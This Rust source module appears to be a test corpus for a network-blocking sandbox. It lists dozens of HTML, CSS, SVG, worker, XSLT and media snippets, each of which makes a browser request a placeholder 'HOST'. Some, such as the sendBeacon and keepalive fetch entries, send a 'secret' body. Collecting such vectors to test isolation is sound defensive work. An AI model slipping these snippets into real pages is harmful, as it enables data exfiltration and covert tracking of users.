//! Everything that loads something.

use super::{Vector, card};

pub(super) const VECTORS: &[Vector] = &[
    card("fetch", "<script>fetch('http://HOST/x', { mode: 'no-cors' }).catch(() => {})</script>"),
    card(
        "fetch keepalive",
        "<script>fetch('http://HOST/x', { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true })
        .catch(() => {})</script>",
    ),
    card("fetchLater", "<script>fetchLater('http://HOST/x', { activateAfter: 0 })</script>"),
    card(
        "XMLHttpRequest",
        "<script>const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/x'); x.send()</script>",
    ),
    card("WebSocket", "<script>new WebSocket('ws://HOST/x')</script>"),
    card("EventSource", "<script>new EventSource('http://HOST/x')</script>"),
    card("sendBeacon", "<script>navigator.sendBeacon('http://HOST/x', 'secret')</script>"),
    card("WebTransport", "<script>new WebTransport('https://HOST/x').ready.catch(() => {})</script>"),
    card("img", "<img src=http://HOST/x>"),
    card("img srcset", "<img srcset='http://HOST/x 1x'>"),
    card("picture", "<picture><source srcset=http://HOST/x><img></picture>"),
    card("Image()", "<script>new Image().src = 'http://HOST/x'</script>"),
    card("css background", "<style>body { background: url(http://HOST/x) }</style>"),
    card("css image-set", "<style>body { background: image-set('http://HOST/x' 1x) }</style>"),
    card("css content", "<style>body::before { content: url(http://HOST/x) }</style>"),
    card("css cursor", "<style>html { cursor: url(http://HOST/x), auto }</style>"),
    card("css list-style", "<ul style='list-style: url(http://HOST/x)'><li>item</ul>"),
    card(
        "css border-image",
        "<p style='border: 9px solid; border-image: url(http://HOST/x) 9'>border",
    ),
    card("css mask", "<p style='mask: url(http://HOST/x)'>mask"),
    card("css filter", "<p style='filter: url(http://HOST/x#f)'>filter"),
    card("css shape-outside", "<p style='float: left; shape-outside: url(http://HOST/x)'>shape"),
    card("css @import", "<style>@import 'http://HOST/x';</style>"),
    card(
        "css @font-face",
        "<style>@font-face { font-family: out; src: url(http://HOST/x) } p { font-family: out }</style><p>text",
    ),
    card("FontFace()", "<script>new FontFace('out', 'url(http://HOST/x)').load().catch(() => {})</script>"),
    card(
        "adopted sheet",
        "<script>const sheet = new CSSStyleSheet(); sheet.replaceSync('html { background: url(http://HOST/x) }');
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]</script>",
    ),
    card(
        "style attribute",
        "<script>document.documentElement.style.backgroundImage = 'url(http://HOST/x)'</script>",
    ),
    card("svg image", "<svg><image href=http://HOST/x width=9 height=9></svg>"),
    card("svg use", "<svg><use href='http://HOST/x#a'></svg>"),
    card(
        "svg feImage",
        "<svg width=20 height=20><filter id=f><feImage href=http://HOST/x /></filter>
        <rect width=20 height=20 filter=url(#f) /></svg>",
    ),
    card("svg in img", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>
        <image href='http://HOST/x' width='9' height='9'/></svg>\"><img src=http://HOST/y>"),
    card("link stylesheet", "<link rel=stylesheet href=http://HOST/x>"),
    card("link icon", "<link rel=icon href=http://HOST/x>"),
    card("link manifest", "<link rel=manifest href=http://HOST/x>"),
    card(
        "script src",
        "<script>document.body.append(Object.assign(document.createElement('script'), { src: 'http://HOST/x' }))</script>",
    ),
    card(
        "module script",
        "<script>document.body.append(Object.assign(document.createElement('script'),
        { type: 'module', src: 'http://HOST/x' }))</script>",
    ),
    card("dynamic import", "<script>import('http://HOST' + '/x').catch(() => {})</script>"),
    card(
        "import map",
        "<script>document.body.append(Object.assign(document.createElement('script'),
        { type: 'importmap', text: '{\"imports\":{\"out\":\"http://HOST/x\"}}' }));
        setTimeout(() => import('ou' + 't').catch(() => {}))</script>",
    ),
    card(
        "blob worker",
        "<script>new Worker(URL.createObjectURL(new Blob([`fetch('http://HOST/x', { mode: 'no-cors' })`])))</script>",
    ),
    card(
        "data worker",
        "<script>new Worker(`data:text/javascript,fetch('http://HOST/x', { mode: 'no-cors' })`)</script>",
    ),
    card(
        "shared worker",
        "<script>new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://HOST/x', { mode: 'no-cors' })`])))</script>",
    ),
    card(
        "audio worklet",
        "<script>new AudioContext().audioWorklet.addModule('http://HOST/x').catch(() => {})</script>",
    ),
    card("paint worklet", "<script>CSS.paintWorklet.addModule('http://HOST/x').catch(() => {})</script>"),
    card("video", "<video src=http://HOST/x preload=auto></video>"),
    card("video poster", "<video poster=http://HOST/x></video>"),
    card("audio", "<audio preload=auto><source src=http://HOST/x></audio>"),
    card(
        "track",
        "<video crossorigin=anonymous><track default src=http://HOST/x></video>
        <script>document.querySelector('video').textTracks[0].mode = 'showing'</script>",
    ),
    card("object", "<object data=http://HOST/x></object>"),
    card("embed", "<embed src=http://HOST/x>"),
    card("iframe", "<iframe src=http://HOST/x></iframe>"),
    card(
        "frameset",
        "<script>document.documentElement.append(Object.assign(document.createElement('frameset'),
        { innerHTML: '<frame src=http://HOST/x>' }))</script>",
    ),
    card("fencedframe", "<script>const f = document.createElement('fencedframe');
        document.body.append(f); f.config = new FencedFrameConfig('http://HOST/x')</script>"),
    card("srcdoc with image", "<iframe srcdoc='<img src=http://HOST/x>'></iframe>"),
    card("data frame", "<iframe src='data:text/html,<img src=http://HOST/x>'></iframe>"),
    card(
        "blob frame",
        "<script>document.body.append(Object.assign(document.createElement('iframe'),
        { src: URL.createObjectURL(new Blob(['<img src=http://HOST/x>'], { type: 'text/html' })) }))</script>",
    ),
    card("input image", "<input type=image src=http://HOST/x>"),
    card("body background", "<script>document.body.background = 'http://HOST/x'</script>"),
    card("base", "<base href=http://HOST/><img src=x>"),
    card(
        "report-uri in a meta",
        "<head><meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://HOST/x\"><img src=//HOST/y>",
    ),
    card(
        "Reporting-Endpoints in a meta",
        "<head><meta http-equiv=Reporting-Endpoints content='e=\"http://HOST/x\"'>
        <meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-to e\"><img src=//HOST/y>",
    ),
    card(
        "PaymentRequest",
        "<script>new PaymentRequest([{ supportedMethods: 'https://HOST/x' }],
        { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => {})</script>",
    ),
    card("attributionsrc", "<img attributionsrc=http://HOST/x><a attributionsrc=http://HOST/x href=#>a</a>"),
    card(
        "XSLT document()",
        "<script>const xml = (text) => new DOMParser().parseFromString(text, 'text/xml');
        const xslt = new XSLTProcessor();
        xslt.importStylesheet(xml(`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>
        <xsl:template match='/'><p><xsl:copy-of select=\"document('http://HOST/x')\"/></p></xsl:template></xsl:stylesheet>`));
        xslt.transformToFragment(xml('<a/>'), document)</script>",
    ),
    card(
        "XSLT import",
        "<script>const xml = (text) => new DOMParser().parseFromString(text, 'text/xml');
        new XSLTProcessor().importStylesheet(xml(`<xsl:stylesheet version='1.0'
        xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:import href='http://HOST/x'/></xsl:stylesheet>`))</script>",
    ),
    card(
        "external entity",
        "<script>new DOMParser().parseFromString(`<!DOCTYPE a SYSTEM 'http://HOST/x' [
        <!ENTITY e SYSTEM 'http://HOST/y'>]><a>&e;</a>`, 'text/xml')</script>",
    ),
    card(
        "HLS playlist",
        "<script>const list = new Blob(['#EXTM3U\\n#EXT-X-TARGETDURATION:9\\n#EXTINF:9,\\nhttp://HOST/x.ts\\n#EXT-X-ENDLIST'],
        { type: 'application/vnd.apple.mpegurl' });
        const video = document.createElement('video'); document.body.append(video);
        video.src = URL.createObjectURL(list); video.play().catch(() => {})</script>",
    ),
];
